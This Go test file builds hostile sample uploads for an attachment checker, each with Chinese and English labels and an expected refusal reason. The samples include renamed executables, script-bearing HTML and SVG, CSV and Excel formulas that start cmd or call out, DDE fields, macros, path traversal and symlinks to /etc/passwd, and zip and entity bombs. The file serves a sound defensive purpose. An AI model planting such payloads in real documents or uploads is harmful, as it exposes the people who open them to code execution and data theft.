package attach

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
	"sync"
)

// hostileCases are files that do something, hide something or are not what they
// say. Some are large: they are made once.
var hostileCases = sync.OnceValue(makeHostile)

func makeHostile() []fileCase {
	var out []fileCase
	add := func(zh, en, name string, body []byte, refused string) {
		out = append(out, fileCase{zh, en, name, body, refused})
	}
	const html = "<!DOCTYPE html><html><script>alert(1)</script></html>"
	// Kinds.
	add("空文件", "an empty file", "a.pdf", nil, "empty")
	add("超过 20 MB", "more than 20 MB", "a.txt", make([]byte, MaxFile+1), "more than 20 MB")
	add("Windows 程序", "a program for Windows", "a.exe", []byte("MZ\x90\x00\x03\x00"), "program")
	add("程序改名为 .pdf", "a program renamed to .pdf", "批复.pdf", []byte("MZ\x90\x00\x03\x00"), "program")
	add("Linux 程序改名为 .txt", "a program for Linux renamed to .txt", "a.txt", []byte("\x7fELF\x02\x01"), "program")
	add("脚本", "a script", "a.txt", []byte("#!/bin/sh\nrm -rf x\n"), "script")
	add("批处理文件", "a batch file", "a.bat", []byte("@echo off\r\n"), "not taken")
	add("双扩展名 .pdf.exe", "two extensions", "批复.pdf.exe", paper(""), "not taken")
	add("文件名藏有反向书写符", "a name written backwards", "批复\u202efdp.docx", word(""), "characters that do not show")
	add("没有扩展名", "no extension", "批复", paper(""), "no extension")
	add("网页", "a web page", "a.html", []byte(html), "web page")
	add("网页改名为 .txt", "a web page renamed to .txt", "a.txt", []byte("  \n<!-- x -->"+html), "web page")
	add("网页改名为 .pdf", "a web page renamed to .pdf", "a.pdf", []byte(html), "web page")
	add("文本深处藏脚本", "a text with a script far down", "a.txt", []byte(strings.Repeat("正文\n", 3000)+"<script>alert(1)</script>"), "web page")
	add("UTF-16 网页改名为 .txt", "a web page in UTF-16", "a.txt", []byte("\xff\xfe<\x00h\x00t\x00m\x00l\x00>\x00"), "web page")
	add("SVG 图形带脚本", "an SVG drawing with a script", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "SVG")
	add("SVG 改名为 .png", "an SVG drawing renamed to .png", "a.png", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "SVG")
	add("PNG 改名为 .jpg", "a PNG picture renamed to .jpg", "a.jpg", pngOf(4, 4), "right extension")
	add("Word 改名为 .pdf", "a Word file renamed to .pdf", "a.pdf", word(""), "right extension")
	add("二进制改名为 .txt", "bytes renamed to .txt", "a.txt", []byte("ab\x00\x01cd"), "neither UTF-8")
	add("旧版 .doc 或加密的 Office 文件", "an old .doc, or Office with a password", "a.doc", []byte(ole), "old Office")
	add("加密的 Word 改名为 .docx", "an encrypted Word file", "a.docx", []byte(ole+"EncryptedPackage"), "password")
	add("RTF", "RTF", "a.rtf", []byte(`{\rtf1\object}`), "RTF")
	add("压缩包", "an archive", "a.zip", zipOf("a.txt", "x"), "unpack it")
	add("压缩包改名为 .docx", "an archive renamed to .docx", "a.docx", zipOf("a.txt", "x"), "unpack it")
	add("HEIC 照片", "a HEIC photo", "a.heic", []byte("\x00\x00\x00\x18ftypheic"), "HEIC")
	add("视频改名为 .jpg", "a video renamed to .jpg", "a.jpg", []byte("\x00\x00\x00\x18ftypmp42"), "video")
	add("CSV 里有会联网的公式", "a CSV file with a formula that calls out", "a.csv", []byte("x,=HYPERLINK(\"http://example.org/\"&A1)\n"), "formulas")
	add("CSV 里有启动程序的公式", "a CSV file with a formula that starts a program", "a.csv", []byte("x;\"=cmd|' /C calc'!A0\"\n"), "formulas")
	add("CSV 公式以 @ 开头", "a CSV file with a formula behind @", "a.csv", []byte("@SUM(1+1)*cmd|' /C calc'!A0\n"), "formulas")

	// Word, Excel, PowerPoint.
	add("Word 带宏", "a Word file with macros", "a.docx", word("", "word/vbaProject.bin", ole), "macros")
	add("宏藏在别的名字下", "macros under another name", "a.docx", word("", wordRels, rels("vbaProject", "data.xml"), "word/data.xml", "<a/>"), "macros")
	add(".docm 改名为 .docx", "a .docm renamed to .docx", "a.docx", word("", "[Content_Types].xml", contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml", wordMain)), "macros")
	add("Word 模板改名为 .docx", "a template renamed to .docx", "a.docx", word("", "[Content_Types].xml", contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", wordMain)), "templates")
	add("Excel 4.0 宏表", "an Excel 4.0 macro sheet", "a.xlsx", sheetOf("1", "xl/macrosheets/sheet1.xml", "<a/>"), "macros")
	add("嵌入的 OLE 对象", "an embedded object", "a.docx", word("", wordRels, rels("oleObject", "embeddings/oleObject1.bin"), "word/embeddings/oleObject1.bin", ole), "embedded")
	add("OLE 对象改名为图片", "an embedded object named as a picture", "a.docx", word("", "word/media/image1.png", ole), "embedded")
	add("嵌入的工作簿", "an embedded workbook", "a.docx", word("", wordRels, rels("package", "embeddings/a.xlsx"), "word/embeddings/a.xlsx", string(sheetOf("1"))), "embedded")
	add("图表的数据表带宏", "macros in the workbook of a chart", "a.docx", charted(sheetOf("1", "xl/vbaProject.bin", ole)), "macros")
	add("图表的数据表里再嵌一个", "a workbook in the workbook of a chart", "a.docx", charted(sheetOf("1", "[Content_Types].xml", contentTypes(string(XLSX)+".main+xml", sheetMain, "xl/charts/chart1.xml", officeTypes+"drawingml.chart+xml"), "xl/charts/chart1.xml", "<c/>", "xl/charts/_rels/chart1.xml.rels", rels("package", "../embeddings/b.xlsx"), "xl/embeddings/b.xlsx", string(sheetOf("1")))), "embedded")
	add("ActiveX 控件", "ActiveX controls", "a.docx", word("", wordRels, rels("control", "activeX/activeX1.xml"), "word/activeX/activeX1.xml", "<a/>"), "ActiveX")
	add("远程模板", "a template from the network", "a.docx", word("", "word/_rels/settings.xml.rels", rels("attachedTemplate", "http://example.org/t.dotm|External")), "outside")
	add("联网的图片", "a picture from the network", "a.docx", word("", wordRels, rels("image", "https://example.org/p.png|External")), "outside")
	add("共享文件夹链接", "a link to a shared folder", "a.docx", word("", wordRels, rels("hyperlink", "file://server/share/x|External")), "outside")
	add("javascript: 链接", "a javascript: link", "a.docx", word("", wordRels, rels("hyperlink", "javascript:alert(1)|External")), "outside")
	add("没有声明的外部目标", "an outside target that is not declared", "a.docx", word("", wordRels, rels("image", "http://example.org/p.png")), "outside")
	add("关系指向文件之外", "a relation that leads out of the file", "a.docx", word("", wordRels, rels("image", "../../../etc/passwd")), "outside")
	add("导入 HTML 片段", "a chunk of HTML", "a.docx", word("", wordRels, rels("aFChunk", "chunk.html"), "word/chunk.html", html), "embedded")
	add("DDE 域", "a DDE field", "a.docx", word(wordField(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), "field")
	add("DDE 域拆成几段", "a DDE field in pieces", "a.docx", word(wordField(" DD", "E c:\\\\x ")), "field")
	add("简写的 DDE 域", "a DDE field in the short way", "a.docx", word(`<w:fldSimple w:instr=" dde x y "/>`), "field")
	add("域名由另一个域拼出", "a field whose name another field makes", "a.docx", word(wordField(wordField(" QUOTE 68 68 69 "), " c:\\\\x ")), "field")
	add("没有结束的 DDE 域", "a DDE field that does not end", "a.docx", word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`), "field")
	add("INCLUDEPICTURE 域", "a field that fetches a picture", "a.docx", word(wordField(" INCLUDEPICTURE &quot;http://example.org/p&quot; ")), "field")
	add("外部工作簿链接", "links to other workbooks", "a.xlsx", sheetOf("[1]a!A1", "xl/_rels/workbook.xml.rels", rels("externalLink", "externalLinks/externalLink1.xml"), "xl/externalLinks/externalLink1.xml", "<externalLink/>"), "other workbooks")
	add("DDE 链接部件", "a part with a DDE link", "a.xlsx", sheetOf("1", "xl/x.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"), "other workbooks")
	add("公式启动程序", "a formula that starts a program", "a.xlsx", sheetOf("cmd|' /C calc'!A0"), "formulas")
	add("公式联网", "a formula that asks the network", "a.xlsx", sheetOf(`_xlfn.WEBSERVICE("http://example.org/"&amp;A1)`), "formulas")
	add("数据连接", "data connections", "a.xlsx", sheetOf("1", "xl/_rels/workbook.xml.rels", rels("connections", "connections.xml"), "xl/connections.xml", "<connections/>"), "data connections")
	add("加载项", "add-ins", "a.xlsx", sheetOf("1", "_rels/.rels", rels("officeDocument", sheetMain, "webextensiontaskpanes", "xl/webextensions/taskpanes.xml")), "add-ins")
	add("启动程序的动作按钮", "a button that starts a program", "a.pptx", show(`<a:hlinkClick action="ppaction://program"/>`), "actions")
	add("运行宏的动作按钮", "a button that runs a macro", "a.pptx", show(`<a:hlinkHover action="PPACTION://macro?name=x"/>`), "actions")
	add("视频", "a video", "a.pptx", show("", "ppt/media/media1.mp4", "\x00\x00\x00\x18ftypmp42"), "video")
	add("文档中的 SVG 带脚本", "a script in a drawing of a document", "a.docx", word("", "word/media/image1.svg", `<svg><script>alert(1)</script></svg>`), "script")
	add("文档中的 SVG 带事件", "an event in a drawing of a document", "a.docx", word("", "word/media/image1.svg", `<svg><rect onclick="a()"/></svg>`), "script")
	add("旧式图形联网", "an old drawing that asks the network", "a.docx", word("", "word/vmlDrawing1.vml", `<xml><v:imagedata src="http://example.org/x.gif"/></xml>`), "outside")
	add("实体炸弹", "an entity bomb", "a.docx", word("", "word/x.xml", `<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>`), "DOCTYPE")
	add("用别的编码藏内容", "a part in another encoding", "a.docx", word("", "word/x.xml", `<?xml version="1.0" encoding="utf-7"?><a/>`), "damaged")
	add("文档中藏程序", "a program in a document", "a.docx", word("", "word/media/image1.png", "MZ\x90\x00"), "not known")
	add("文档中藏网页", "a page in a document", "a.docx", word("", "word/page.html", html), "not known")
	add("文档中藏文档", "a document in a document", "a.docx", word("", "customXml/item1.xml", string(word(""))), "embedded")

	// Archives.
	add("压缩炸弹", "a zip bomb", "a.docx", word("", "word/x.xml", bigXML(6<<20)), "unpacks to more")
	add("谎报大小的压缩炸弹", "a zip bomb that lies about its size", "a.docx", lying(word("", "word/x.xml", bigXML(1<<20))), "more than 128 MB")
	add("套娃压缩包", "archives in archives", "a.docx", charted(charted(sheetOf("1"))), "damaged")
	many := []string{}
	for i := range maxParts + 1 {
		many = append(many, fmt.Sprintf("word/x%d.xml", i), "<a/>")
	}
	add("内部文件极多", "thousands of parts", "a.docx", word("", many...), "more than 2000 parts")
	add("内部路径指向上级目录", "a path that leads up", "a.docx", word("", "../../evil.xml", "<a/>"), "path inside")
	add("内部路径带盘符", "a path with a drive", "a.docx", word("", `C:\evil.xml`, "<a/>"), "path inside")
	add("同名的内部文件", "two parts of one name", "a.docx", word("", "word/Document.xml", "<a/>"), "damaged")
	add("前面藏有别的内容", "something before an archive", "a.docx", append([]byte("PK\x03\x04junk"), word("")...), "hidden")
	add("后面跟着网页", "a page behind an archive", "a.docx", append(word(""), html...), "hidden")
	add("中间夹有别的内容", "something between the parts", "a.docx", gapped(word("")), "hidden")
	add("目录与内容说法不一", "parts that say other names than the directory", "a.docx", bytes.Replace(word(""), []byte("word/document.xml"), []byte("word/documenX.xml"), 1), "damaged")
	add("加密的压缩包", "an encrypted archive", "a.docx", encrypted(word("")), "password")
	add("指向别处的链接文件", "a symbolic link", "a.docx", linked(), "damaged")
	add("只传了一半", "cut off in the middle", "a.docx", word("")[:400], "cut off")

	out = append(out, hostilePapers()...)
	return append(out, hostilePictures()...)
}

// lying lets the directory say that the parts are small.
func lying(b []byte) []byte {
	b = bytes.Clone(b)
	for at := bytes.Index(b, []byte("PK\x01\x02")); at >= 0 && at+46 < len(b) && bytes.HasPrefix(b[at:], []byte("PK\x01\x02")); at += 46 + int(le.Uint16(b[at+28:])) + int(le.Uint16(b[at+30:])) {
		if le.Uint32(b[at+24:]) > 1<<20 {
			le.PutUint32(b[at+24:], 1000)
		}
	}
	return b
}

// gapped puts bytes before the directory that are no part.
func gapped(b []byte) []byte {
	at := bytes.Index(b, []byte("PK\x01\x02"))
	end := bytes.LastIndex(b, []byte("PK\x05\x06"))
	out := append(append(bytes.Clone(b[:at]), "junk"...), b[at:]...)
	le.PutUint32(out[end+4+16:], uint32(at+4))
	return out
}

func encrypted(b []byte) []byte {
	b = bytes.Clone(b)
	b[bytes.Index(b, []byte("PK\x01\x02"))+8] |= 1
	return b
}

func linked() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "[Content_Types].xml"}
	h.SetMode(0o120777)
	must(must(z.CreateHeader(h)).Write([]byte("/etc/passwd")))
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}
